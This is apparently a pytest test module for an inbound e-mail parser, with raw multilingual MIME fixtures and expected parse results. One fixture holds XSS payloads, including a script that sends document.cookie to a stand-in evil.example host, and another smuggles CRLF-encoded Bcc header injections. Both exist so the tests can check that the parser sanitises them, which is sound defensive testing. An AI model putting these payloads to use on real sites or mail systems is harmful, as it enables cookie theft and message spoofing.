"""Inbound e-mail parsing: real-looking messages as bytes, plus property tests.

The table cases are written as the bytes a webhook or IMAP fetch would hand us (CRLF line
ends, folded headers, encoded words), because the interesting failures live in exactly
those details.
"""

from __future__ import annotations

import hashlib
import re
from datetime import UTC, datetime, timedelta, timezone
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import format_datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from triage.intake import email_text
from triage.intake.email_message import (
    Attachment,
    MalformedEmail,
    ParsedEmail,
    parse_email,
    thread_keys,
    ticket_ref_from_subject,
)

CET = timezone(timedelta(hours=1))

# --------------------------------------------------------------------------- messages

OUTLOOK_WINDOWS_1252 = (
    b"Received: from AM0PR02MB1234.eurprd02.prod.outlook.com by mx.triage.example.com;\r\n"
    b" Tue, 5 Mar 2024 09:14:30 +0100\r\n"
    b"From: Kari Nordmann <Kari.Nordmann@Eksempel.NO>\r\n"
    b"To: =?windows-1252?Q?Kundest=F8tte?= <support@triage.example.com>\r\n"
    b'CC: "Ola Nordmann" <ola@eksempel.no>, bad@, undisclosed-recipients:;\r\n'
    b"Subject: =?windows-1252?Q?SV:_Feil_p=E5_fakturaen_for_m=E5neden_=96_[Sak_#4?=\r\n"
    b" =?windows-1252?Q?2]?=\r\n"
    b"Thread-Topic: =?windows-1252?Q?Feil_p=E5_fakturaen?=\r\n"
    b"Thread-Index: AQHabcdEFGH1234567890==\r\n"
    b"Date: Tue, 5 Mar 2024 09:14:27 +0100\r\n"
    b"Message-ID: <AM0PR02MB1234ABCD@AM0PR02MB1234.eurprd02.prod.outlook.com>\r\n"
    b"In-Reply-To: <ticket-42-1@triage.example.com>\r\n"
    b"References: <ticket-42-0@triage.example.com>\r\n"
    b" <ticket-42-1@triage.example.com>\r\n"
    b"Accept-Language: nb-NO, en-US\r\n"
    b"Content-Language: nb-NO\r\n"
    b"X-MS-Has-Attach: yes\r\n"
    b"Content-Type: multipart/mixed;\r\n"
    b'\tboundary="_004_AM0PR02MB1234ABCD_"\r\n'
    b"MIME-Version: 1.0\r\n"
    b"\r\n"
    b"--_004_AM0PR02MB1234ABCD_\r\n"
    b"Content-Type: multipart/alternative;\r\n"
    b'\tboundary="_000_AM0PR02MB1234ABCD_"\r\n'
    b"\r\n"
    b"--_000_AM0PR02MB1234ABCD_\r\n"
    b'Content-Type: text/plain; charset="windows-1252"\r\n'
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Hei,\r\n"
    b"\r\n"
    b"Vi har f=E5tt feil bel=F8p p=E5 fakturaen =96 kan dere sjekke? Gjelder bl=E5=\r\n"
    b"b=E6rsyltet=F8y-avdelingen.\r\n"
    b"\r\n"
    b"Hilsen Kari\r\n"
    b"\r\n"
    b"Fra: Kundest=F8tte <support@triage.example.com>\r\n"
    b"Sendt: mandag 4. mars 2024 15:02\r\n"
    b"\r\n"
    b"> Takk for henvendelsen.\r\n"
    b"\r\n"
    b"--_000_AM0PR02MB1234ABCD_\r\n"
    b'Content-Type: text/html; charset="windows-1252"\r\n'
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b'<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3D=\r\n'
    b'windows-1252"><style>p.MsoNormal{margin:0cm;}</style></head>\r\n'
    b'<body lang=3D"NO-BOK"><div class=3D"WordSection1">\r\n'
    b'<p class=3D"MsoNormal">Hei,</p>\r\n'
    b'<p class=3D"MsoNormal">Vi har f=E5tt feil bel=F8p p=E5 fakturaen =96 kan dere s=\r\n'
    b"jekke?</p>\r\n"
    b"</div></body></html>\r\n"
    b"\r\n"
    b"--_000_AM0PR02MB1234ABCD_--\r\n"
    b"\r\n"
    b"--_004_AM0PR02MB1234ABCD_\r\n"
    b'Content-Type: application/pdf; name="=?windows-1252?Q?Faktura_m=E5ned.pdf?="\r\n'
    b"Content-Description: =?windows-1252?Q?Faktura_m=E5ned.pdf?=\r\n"
    b'Content-Disposition: attachment; filename="=?windows-1252?Q?Faktura_m=E5ned.pdf?=";\r\n'
    b'\tsize=12; creation-date="Tue, 05 Mar 2024 08:13:00 GMT"\r\n'
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n"
    b"JVBERi0xLjQKJeLj\r\n"
    b"\r\n"
    b"--_004_AM0PR02MB1234ABCD_--\r\n"
)

# The HTML is:
#   <div dir="ltr"><div>Hei!</div><div>Skriveren p&aring; 3. etasje virker ikke &ndash;
#   den viser &quot;Feil 49&quot;.</div><div><br></div><div>Mvh<br>Åse Ødegård</div><br>
#   <div class="gmail_quote"><div dir="ltr" class="gmail_attr">tir. 5. mar. 2024 kl. 10:02
#   skrev Support &lt;support@triage.example.com&gt;:<br></div><blockquote class="gmail_quote"
#   style="margin:0px 0px 0px 0.8ex"><div>Har du prøvd å slå den av og på?</div>
#   </blockquote></div></div>
GMAIL_HTML_ONLY = (
    b"Delivered-To: support@triage.example.com\r\n"
    b"Received: by 2002:a05:6402:1234:b0:56a:1234 with SMTP id abc;\r\n"
    b"        Tue, 5 Mar 2024 01:15:43 -0800 (PST)\r\n"
    b"Return-Path: <ase.odegard@gmail.com>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"From: =?UTF-8?Q?=C3=85se_=C3=98deg=C3=A5rd?= <ase.odegard@gmail.com>\r\n"
    b"Date: Tue, 5 Mar 2024 10:15:42 +0100\r\n"
    b"Message-ID: <CAHx9k2pQ8m=Wd3+Yz_kT1f5uN@mail.gmail.com>\r\n"
    b"Subject: =?UTF-8?B?U2tyaXZlcmVuIHDDpSAzLiBldGFzamU=?=\r\n"
    b"To: support@triage.example.com\r\n"
    b'Content-Type: text/html; charset="UTF-8"\r\n'
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n"
    b"PGRpdiBkaXI9Imx0ciI+PGRpdj5IZWkhPC9kaXY+PGRpdj5Ta3JpdmVyZW4gcCZhcmluZzsgMy4g\r\n"
    b"ZXRhc2plIHZpcmtlciBpa2tlICZuZGFzaDsgZGVuIHZpc2VyICZxdW90O0ZlaWwgNDkmcXVvdDsu\r\n"
    b"PC9kaXY+PGRpdj48YnI+PC9kaXY+PGRpdj5Ndmg8YnI+w4VzZSDDmGRlZ8OlcmQ8L2Rpdj48YnI+\r\n"
    b"PGRpdiBjbGFzcz0iZ21haWxfcXVvdGUiPjxkaXYgZGlyPSJsdHIiIGNsYXNzPSJnbWFpbF9hdHRy\r\n"
    b"Ij50aXIuIDUuIG1hci4gMjAyNCBrbC4gMTA6MDIgc2tyZXYgU3VwcG9ydCAmbHQ7c3VwcG9ydEB0\r\n"
    b"cmlhZ2UuZXhhbXBsZS5jb20mZ3Q7Ojxicj48L2Rpdj48YmxvY2txdW90ZSBjbGFzcz0iZ21haWxf\r\n"
    b"cXVvdGUiIHN0eWxlPSJtYXJnaW46MHB4IDBweCAwcHggMC44ZXgiPjxkaXY+SGFyIGR1IHByw7h2\r\n"
    b"ZCDDpSBzbMOlIGRlbiBhdiBvZyBww6U/PC9kaXY+PC9ibG9ja3F1b3RlPjwvZGl2PjwvZGl2Pgo=\r\n"
)

REPLY_WITH_TAG = (
    b'From: "Per Hansen" <per.hansen@kunde.no>\r\n'
    b"To: support+42@triage.example.com\r\n"
    b"Subject: Re: [#42] VPN-tilkobling faller ut\r\n"
    b"Date: Wed, 6 Mar 2024 08:01:00 +0100\r\n"
    b"Message-ID: <9f8e7d6c-reply@kunde.no>\r\n"
    b"In-Reply-To: <ticket-42-3@triage.example.com>\r\n"
    b"References: <ticket-42-1@triage.example.com> <ticket-42-2@triage.example.com>\r\n"
    b" <ticket-42-3@triage.example.com>\r\n"
    b"User-Agent: Mozilla Thunderbird\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=UTF-8; format=flowed\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"Fortsatt problemer etter omstart.\r\n"
    b"\r\n"
    b"On 05.03.2024 16:40, Support wrote:\r\n"
    b"> Kan du pr\xc3\xb8ve \xc3\xa5 starte ruteren p\xc3\xa5 nytt?\r\n"
)

AUTO_REPLY = (
    b"From: Lise Berg <lise.berg@kunde.no>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Automatisk svar: [#42] VPN-tilkobling faller ut\r\n"
    b"Date: Wed, 6 Mar 2024 08:01:05 +0100\r\n"
    b"Message-ID: <oof-20240306-1@kunde.no>\r\n"
    b"Auto-Submitted: auto-replied\r\n"
    b"X-Auto-Response-Suppress: All\r\n"
    b"X-Autoreply: yes\r\n"
    b"Content-Type: text/plain; charset=us-ascii\r\n"
    b"\r\n"
    b"I am out of the office until 11 March.\r\n"
)

BOUNCE = (
    b"Return-Path: <>\r\n"
    b"From: Mail Delivery System <MAILER-DAEMON@mx.triage.example.com>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Undelivered Mail Returned to Sender\r\n"
    b"Date: Wed,  6 Mar 2024 08:05:00 +0100 (CET)\r\n"
    b"Message-Id: <20240306070500.ABC123@mx.triage.example.com>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: multipart/report; report-type=delivery-status;\r\n"
    b'\tboundary="ABC123.1709708700/mx.triage.example.com"\r\n'
    b"\r\n"
    b"This is a MIME-encapsulated message.\r\n"
    b"\r\n"
    b"--ABC123.1709708700/mx.triage.example.com\r\n"
    b"Content-Description: Notification\r\n"
    b"Content-Type: text/plain; charset=us-ascii\r\n"
    b"\r\n"
    b"This is the mail system at host mx.triage.example.com.\r\n"
    b"\r\n"
    b"I'm sorry to have to inform you that your message could not\r\n"
    b"be delivered to one or more recipients.\r\n"
    b"\r\n"
    b"<nobody@kunde.no>: host mx.kunde.no said: 550 5.1.1 User unknown\r\n"
    b"\r\n"
    b"--ABC123.1709708700/mx.triage.example.com\r\n"
    b"Content-Description: Delivery report\r\n"
    b"Content-Type: message/delivery-status\r\n"
    b"\r\n"
    b"Reporting-MTA: dns; mx.triage.example.com\r\n"
    b"Arrival-Date: Wed,  6 Mar 2024 08:04:59 +0100 (CET)\r\n"
    b"\r\n"
    b"Final-Recipient: rfc822; nobody@kunde.no\r\n"
    b"Action: failed\r\n"
    b"Status: 5.1.1\r\n"
    b"\r\n"
    b"--ABC123.1709708700/mx.triage.example.com\r\n"
    b"Content-Description: Undelivered Message\r\n"
    b"Content-Type: message/rfc822\r\n"
    b"\r\n"
    b"From: support@triage.example.com\r\n"
    b"To: nobody@kunde.no\r\n"
    b"Subject: [#42] Vi har mottatt henvendelsen\r\n"
    b"Message-ID: <ticket-42-4@triage.example.com>\r\n"
    b"\r\n"
    b"Hei, vi har mottatt henvendelsen din.\r\n"
    b"\r\n"
    b"--ABC123.1709708700/mx.triage.example.com--\r\n"
)

# 30 lines of 57 decoded bytes each: a 1,710-byte "log file".
TOO_LARGE_ATTACHMENT = (
    b"From: drift@kunde.no\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Logg fra serveren\r\n"
    b"Date: Thu, 7 Mar 2024 12:00:00 +0100\r\n"
    b"Message-ID: <logs-1@kunde.no>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="b1"\r\n'
    b"\r\n"
    b"--b1\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Se vedlagte logger.\r\n"
    b"--b1\r\n"
    b'Content-Type: application/octet-stream; name="server.log"\r\n'
    b'Content-Disposition: attachment; filename="server.log"\r\n'
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n" + (b"QUFB" * 19 + b"\r\n") * 30 + b"--b1\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b'Content-Disposition: attachment; filename="C:\\\\Users\\\\drift\\\\notat.txt"\r\n'
    b"\r\n"
    b"kort notat\r\n"
    b"--b1--\r\n"
)

NO_MESSAGE_ID = (
    b"From: skanner@kunde.no\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Skannet dokument\r\n"
    b"Date: Thu, 7 Mar 2024 12:30:00 +0100\r\n"
    b"\r\n"
    b"Dokumentet er vedlagt.\r\n"
)

HOSTILE_HTML = (
    b"From: Mallory <mallory@angrep.example.com>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Viktig\r\n"
    b"Date: Thu, 7 Mar 2024 13:00:00 +0100\r\n"
    b"Message-ID: <xss-1@angrep.example.com>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n"
    b"\r\n"
    b"<html><head><title>Hidden</title><script>alert('head')</script>\r\n"
    b"<style>body{background:url(javascript:alert(3))}</style></head>\r\n"
    b'<body onload="alert(4)"><p onclick="steal()">Klikk <a href="javascript:alert(1)">her</a>\r\n'
    b' eller se <a href="https://status.example.com/">status</a>.</p>\r\n'
    b'<img src="x" onerror="alert(2)"><img src="cid:logo@kunde">\r\n'
    b"<script>document.location='https://evil.example/'+document.cookie</script>\r\n"
    b'<iframe src="https://evil.example/"></iframe>\r\n'
    b'<form action="https://evil.example/"><input name="pw"></form>\r\n'
    b"<p>Takk &amp; hilsen</p></body></html>\r\n"
)

KOI8_R = (
    b"From: =?koi8-r?b?6dfBziDp18HOz9c=?= <ivan@primer.ru>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: =?koi8-r?b?9MXT1A==?=\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0300\r\n"
    b"Message-ID: <koi8-1@primer.ru>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=koi8-r\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"\xf0\xd2\xc9\xd7\xc5\xd4, \xd0\xd2\xc9\xce\xd4\xc5\xd2 \xce\xc5 \xd2\xc1\xc2\xcf\xd4\xc1\xc5\xd4.\r\n"
)

UNKNOWN_CHARSET = (
    b"From: a@kunde.no\r\n"
    b"Subject: Ukjent tegnsett\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <cs-1@kunde.no>\r\n"
    b"Content-Type: text/plain; charset=x-unknown-8bit\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"Bl\xc3\xa5b\xc3\xa6r\r\n"
)

LYING_CHARSET = (
    b"From: a@kunde.no\r\n"
    b"Subject: Feil tegnsett\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <cs-2@kunde.no>\r\n"
    b"Content-Type: text/plain; charset=us-ascii\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"Bl\xe5b\xe6r og r\xf8mme\r\n"
)

UTF8_LABEL_LATIN1_BYTES = (
    b"From: a@kunde.no\r\n"
    b"Subject: Feil tegnsett igjen\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <cs-3@kunde.no>\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"Bl\xe5b\xe6r\r\n"
)

BROKEN_ENCODED_WORDS = (
    b"From: =?utf-8?q?Kari_=C3?= <kari@kunde.no>\r\n"
    b"Subject: =?utf-8?q?Hei_p=C3=A5_dere?= =?x-bogus?q?ukjent?= =?utf-8?b?!!ikke-base64\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <ew-1@kunde.no>\r\n"
    b"\r\n"
    b"Hei\r\n"
)

HEADER_INJECTION = (
    b"From: =?utf-8?q?Eve=0D=0ABcc:_all@triage.example.com?= <eve@angrep.example.com>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: =?utf-8?q?Hei=0D=0ABcc:_victim@example.com=0D=0A=0D=0Abody?=\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <inj\r\n ect@angrep.example.com>\r\n"
    b"\r\n"
    b"Hei\r\n"
)

FOLDED_ENCODED_NAME = (
    b"From: =?utf-8?q?=C3=85se?=\r\n"
    b" =?utf-8?q?_=C3=98deg=C3=A5rd?= <ase@kunde.no>\r\n"
    b"Subject: =?utf-8?q?Skriveren_p=C3=A5?=\r\n"
    b" =?utf-8?q?_3=2E_etasje?=\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <folded@kunde.no>\r\n"
    b"\r\n"
    b"Hei\r\n"
)

RAW_8BIT_HEADERS = (
    b"From: J\xc3\xb8rn Gr\xc3\xb8nli <jorn@kunde.no>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: S\xf8knad om tilgang\r\n"
    b"Date: Fri, 8 Mar 2024 09:00:00 +0100\r\n"
    b"Message-ID: <8bit-1@kunde.no>\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"Hei fra J\xc3\xb8rn\r\n"
)

FORWARDED = (
    b"From: Leder <leder@kunde.no>\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Fwd: Tilbud fra leverand\xc3\xb8r\r\n"
    b"Date: Fri, 8 Mar 2024 10:00:00 +0100\r\n"
    b"Message-ID: <fwd-1@kunde.no>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="outer"\r\n'
    b"\r\n"
    b"--outer\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Se videresendt e-post.\r\n"
    b"--outer\r\n"
    b"Content-Type: message/rfc822\r\n"
    b"Content-Disposition: inline\r\n"
    b"\r\n"
    b"From: selger@leverandor.example.com\r\n"
    b"To: leder@kunde.no\r\n"
    b"Subject: Tilbud 2024/17\r\n"
    b"Message-ID: <offer-17@leverandor.example.com>\r\n"
    b'Content-Type: multipart/alternative; boundary="inner"\r\n'
    b"\r\n"
    b"--inner\r\n"
    b"Content-Type: text/plain\r\n"
    b"\r\n"
    b"Hemmelig pris: 100 kr.\r\n"
    b"--inner\r\n"
    b"Content-Type: text/html\r\n"
    b"\r\n"
    b"<p>Hemmelig pris: 100 kr.</p>\r\n"
    b"--inner--\r\n"
    b"--outer--\r\n"
)

NESTED_RELATED = (
    b"From: design@kunde.no\r\n"
    b"To: support@triage.example.com\r\n"
    b"Subject: Logoen vises ikke\r\n"
    b"Date: Fri, 8 Mar 2024 11:00:00 +0100\r\n"
    b"Message-ID: <rel-1@kunde.no>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="m"\r\n'
    b"\r\n"
    b"--m\r\n"
    b'Content-Type: multipart/alternative; boundary="a"\r\n'
    b"\r\n"
    b"--a\r\n"
    b"Content-Type: text/plain; charset=iso-8859-1\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Logoen under vises ikke p=E5 nettsiden.\r\n"
    b"--a\r\n"
    b'Content-Type: multipart/related; boundary="r"; type="text/html"\r\n'
    b"\r\n"
    b"--r\r\n"
    b"Content-Type: text/html; charset=iso-8859-1\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b'<p>Logoen under vises ikke p=E5 nettsiden.</p><img src=3D"cid:logo@kunde.no">\r\n'
    b"--r\r\n"
    b"Content-Type: image/png\r\n"
    b"Content-ID: <logo@kunde.no>\r\n"
    b"Content-Disposition: inline\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n"
    b"iVBORw0KGgo=\r\n"
    b"--r--\r\n"
    b"--a\r\n"
    b"Content-Type: text/watch-html; charset=utf-8\r\n"
    b"\r\n"
    b"<b>Logo</b>\r\n"
    b"--a--\r\n"
    b"--m\r\n"
    b"Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n"
    b"\r\n"
    b"BEGIN:VCALENDAR\r\n"
    b"END:VCALENDAR\r\n"
    b"--m--\r\n"
)

RECIPIENTS = (
    b"Delivered-To: support@triage.example.com\r\n"
    b"X-Original-To: drift@triage.example.com\r\n"
    b'From: "Hansen, Per" <per@kunde.no>, Lise <lise@kunde.no>\r\n'
    b"To: team: Ola <ola@kunde.no>, kari@kunde.no;, Support <SUPPORT@Triage.Example.COM>\r\n"
    b"Cc: not-an-address, nobody@localhost, per@kunde.no\r\n"
    b"Subject: Mange mottakere\r\n"
    b"Date: Fri, 8 Mar 2024 12:00:00 -0000\r\n"
    b"Message-ID: bare-id@kunde.no\r\n"
    b"\r\n"
    b"Hei alle\r\n"
)

NO_DATE_NUL_BODY = (
    b"From: a@kunde.no\r\n"
    b"Subject: Uten dato\r\n"
    b"Message-ID: <nodate@kunde.no>\r\n"
    b"\r\n"
    b"null\x00byte\r\n"
)

BAD_DATE = (
    b"From: a@kunde.no\r\n"
    b"Subject: Rar dato\r\n"
    b"Date: Someday soon, maybe\r\n"
    b"Message-ID: <baddate@kunde.no>\r\n"
    b"\r\n"
    b"x\r\n"
)

HUGE_BODY = (
    b"From: a@kunde.no\r\n"
    b"Subject: Lang logg\r\n"
    b"Date: Fri, 8 Mar 2024 12:00:00 +0100\r\n"
    b"Message-ID: <huge@kunde.no>\r\n"
    b"\r\n" + b"0123456789" * 25_000 + b"\r\n"
)


# --------------------------------------------------------------------------- table


def _case(raw: bytes, case_id: str, **expected: Any) -> Any:
    return pytest.param(raw, expected, id=case_id)


CASES = [
    _case(
        OUTLOOK_WINDOWS_1252,
        "outlook-windows-1252-quoted-printable",
        message_id="<AM0PR02MB1234ABCD@AM0PR02MB1234.eurprd02.prod.outlook.com>",
        subject="SV: Feil på fakturaen for måneden – [Sak #42]",
        ticket_ref=42,
        sender="Kari.Nordmann@eksempel.no",
        sender_name="Kari Nordmann",
        to=("support@triage.example.com", "ola@eksempel.no"),
        date=datetime(2024, 3, 5, 9, 14, 27, tzinfo=CET),
        text=(
            "Hei,\n\nVi har fått feil beløp på fakturaen – kan dere sjekke? Gjelder "
            "blåbærsyltetøy-avdelingen.\n\nHilsen Kari\n\n"
            "Fra: Kundestøtte <support@triage.example.com>\nSendt: mandag 4. mars 2024 15:02\n\n"
            "> Takk for henvendelsen."
        ),
        html_has=("<p>Hei,</p>", "beløp på fakturaen – kan dere sjekke?"),
        html_lacks=("<style", "MsoNormal", "<meta"),
        attachments=(Attachment("Faktura måned.pdf", "application/pdf", 12, False),),
        thread_keys=("<ticket-42-1@triage.example.com>", "<ticket-42-0@triage.example.com>"),
        auto_submitted=False,
        warnings_have=("Cc address 'bad@' is not valid",),
    ),
    _case(
        GMAIL_HTML_ONLY,
        "gmail-base64-utf8-html-only",
        subject="Skriveren på 3. etasje",
        sender="ase.odegard@gmail.com",
        sender_name="Åse Ødegård",
        to=("support@triage.example.com",),
        text=(
            'Hei!\nSkriveren på 3. etasje virker ikke – den viser "Feil 49".\n\nMvh\n'
            "Åse Ødegård\n\ntir. 5. mar. 2024 kl. 10:02 skrev Support "
            "<support@triage.example.com>:\n\n> Har du prøvd å slå den av og på?"
        ),
        html_has=("<blockquote>", "Har du prøvd å slå den av og på?"),
        html_lacks=("style=", "class="),
        attachments=(),
        ticket_ref=None,
        warnings=(),
    ),
    _case(
        REPLY_WITH_TAG,
        "reply-threaded-by-headers-and-subject-tag",
        subject="Re: [#42] VPN-tilkobling faller ut",
        ticket_ref=42,
        in_reply_to="<ticket-42-3@triage.example.com>",
        references=(
            "<ticket-42-1@triage.example.com>",
            "<ticket-42-2@triage.example.com>",
            "<ticket-42-3@triage.example.com>",
        ),
        thread_keys=(
            "<ticket-42-3@triage.example.com>",
            "<ticket-42-2@triage.example.com>",
            "<ticket-42-1@triage.example.com>",
        ),
        to=("support+42@triage.example.com",),
        text=(
            "Fortsatt problemer etter omstart.\n\nOn 05.03.2024 16:40, Support wrote:\n"
            "> Kan du prøve å starte ruteren på nytt?"
        ),
        html=None,
        auto_submitted=False,
        warnings=(),
    ),
    _case(
        AUTO_REPLY,
        "out-of-office-auto-reply",
        auto_submitted=True,
        ticket_ref=42,
        text="I am out of the office until 11 March.",
    ),
    _case(
        BOUNCE,
        "bounce-from-mailer-daemon",
        sender="MAILER-DAEMON@mx.triage.example.com",
        sender_name="Mail Delivery System",
        auto_submitted=True,
        date=datetime(2024, 3, 6, 8, 5, tzinfo=CET),
        text_has=("could not\nbe delivered", "550 5.1.1 User unknown"),
        text_lacks=("mottatt henvendelsen din", "Reporting-MTA"),
        attachment_names=("attachment-1.txt", "[#42] Vi har mottatt henvendelsen.eml"),
        attachment_types=("message/delivery-status", "message/rfc822"),
    ),
    _case(
        TOO_LARGE_ATTACHMENT,
        "attachment-over-the-limit",
        kwargs={"max_attachment_bytes": 1024},
        text="Se vedlagte logger.",
        attachments=(
            Attachment("server.log", "application/octet-stream", 1710, True),
            Attachment("notat.txt", "text/plain", 10, False),
        ),
        warnings_have=("'server.log' is 1,710 bytes, larger than the 1 KiB limit",),
    ),
    _case(
        HOSTILE_HTML,
        "html-with-script-and-event-handlers",
        html_has=('<a href="https://status.example.com/"', '<img src="cid:logo@kunde">'),
        html_lacks=(
            "<script",
            "alert",
            "onclick",
            "onload",
            "onerror",
            "javascript:",
            "<iframe",
            "<form",
            "<input",
            "<style",
            "Hidden",
        ),
        text="Klikk her eller se status.\n\nTakk & hilsen",
    ),
    _case(
        KOI8_R,
        "koi8-r-body-and-encoded-words",
        subject="Тест",
        sender_name="Иван Иванов",
        text="Привет, принтер не работает.",
        warnings=(),
    ),
    _case(
        UNKNOWN_CHARSET,
        "unknown-charset-falls-back-to-utf-8",
        text="Blåbær",
        warnings_have=("unknown charset 'x-unknown-8bit'; decoded as utf-8",),
    ),
    _case(
        LYING_CHARSET,
        "us-ascii-label-on-latin-1-bytes",
        text="Blåbær og rømme",
        warnings_have=("is not valid 'us-ascii'; decoded as latin-1",),
    ),
    _case(
        UTF8_LABEL_LATIN1_BYTES,
        "utf-8-label-on-latin-1-bytes",
        text="Blåbær",
        warnings_have=("is not valid 'utf-8'; decoded as latin-1",),
    ),
    _case(
        BROKEN_ENCODED_WORDS,
        "broken-rfc-2047-words",
        sender="kari@kunde.no",
        subject_has=("Hei på dere",),
    ),
    _case(
        HEADER_INJECTION,
        "encoded-crlf-cannot-inject-headers",
        subject="Hei Bcc: victim@example.com body",
        sender="eve@angrep.example.com",
        sender_name="Eve Bcc: all@triage.example.com",
        message_id="<inject@angrep.example.com>",
    ),
    _case(
        FOLDED_ENCODED_NAME,
        "folded-encoded-words-in-display-name-and-subject",
        sender_name="Åse Ødegård",
        subject="Skriveren på 3. etasje",
    ),
    _case(
        RAW_8BIT_HEADERS,
        "raw-8-bit-headers",
        subject="Søknad om tilgang",
        sender_name="Jørn Grønli",
        text="Hei fra Jørn",
    ),
    _case(
        FORWARDED,
        "forwarded-message-is-an-attachment-not-the-body",
        subject="Fwd: Tilbud fra leverandør",
        text="Se videresendt e-post.",
        html=None,
        attachment_names=("Tilbud 2024-17.eml",),
        attachment_types=("message/rfc822",),
    ),
    _case(
        NESTED_RELATED,
        "nested-alternative-related-inline-image",
        text="Logoen under vises ikke på nettsiden.",
        html_has=("<p>Logoen under vises ikke på nettsiden.</p>", 'src="cid:logo@kunde.no"'),
        html_lacks=("Logo</b>",),
        attachments=(
            Attachment("attachment-1.png", "image/png", 8, False),
            Attachment("attachment-2.ics", "text/calendar", 30, False),
        ),
    ),
    _case(
        RECIPIENTS,
        "recipients-groups-duplicates-and-invalid",
        sender="per@kunde.no",
        sender_name="Hansen, Per",
        to=(
            "ola@kunde.no",
            "kari@kunde.no",
            "support@triage.example.com",  # RFC 2142 role names are lower-cased
            "per@kunde.no",
            "drift@triage.example.com",
        ),
        message_id="<bare-id@kunde.no>",
        date=datetime(2024, 3, 8, 12, 0, tzinfo=UTC),
        warnings_have=(
            "From header names 2 addresses; the first was used",
            "Cc address 'not-an-address' is not valid",
            "Cc address 'nobody@localhost' is not valid",
        ),
    ),
    _case(
        NO_DATE_NUL_BODY,
        "missing-date-and-nul-in-body",
        date=None,
        text="nullbyte",
        warnings_have=("Date header is missing", "NUL characters were removed"),
    ),
    _case(
        BAD_DATE,
        "unparseable-date",
        date=None,
        warnings_have=("Date header 'Someday soon, maybe' could not be parsed",),
    ),
    _case(
        HUGE_BODY,
        "body-capped-at-200000-characters",
        text="0123456789" * 20_000,
        warnings_have=("text body is longer than 200,000 characters; truncated",),
    ),
]

_SUBSTRING_CHECKS = {
    "text_has": ("text", True),
    "text_lacks": ("text", False),
    "html_has": ("html", True),
    "html_lacks": ("html", False),
    "subject_has": ("subject", True),
}


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_real_world_messages(raw: bytes, expected: dict[str, Any]) -> None:
    expected = dict(expected)  # the case's own dict is shared with other tests
    parsed = parse_email(raw, **expected.pop("kwargs", {}))
    for key, value in expected.items():
        if key in _SUBSTRING_CHECKS:
            field_name, present = _SUBSTRING_CHECKS[key]
            actual = getattr(parsed, field_name) or ""
            for fragment in value:
                assert (fragment in actual) is present, (key, fragment, actual)
        elif key == "warnings_have":
            for fragment in value:
                assert any(fragment in w for w in parsed.warnings), (fragment, parsed.warnings)
        elif key == "attachment_names":
            assert tuple(a.filename for a in parsed.attachments) == value
        elif key == "attachment_types":
            assert tuple(a.content_type for a in parsed.attachments) == value
        elif key == "thread_keys":
            assert thread_keys(parsed) == value
        elif key == "ticket_ref":
            assert ticket_ref_from_subject(parsed.subject) == value
        else:
            assert getattr(parsed, key) == value, (key, getattr(parsed, key))
    assert_safe(parsed)


# --------------------------------------------------------------------------- focused tests


def test_remembered_headers_change_no_result() -> None:
    """Header objects are remembered across messages (``_RememberingHeaders``): every
    case parses the same with the memory cold, warm, and warmed in another order."""
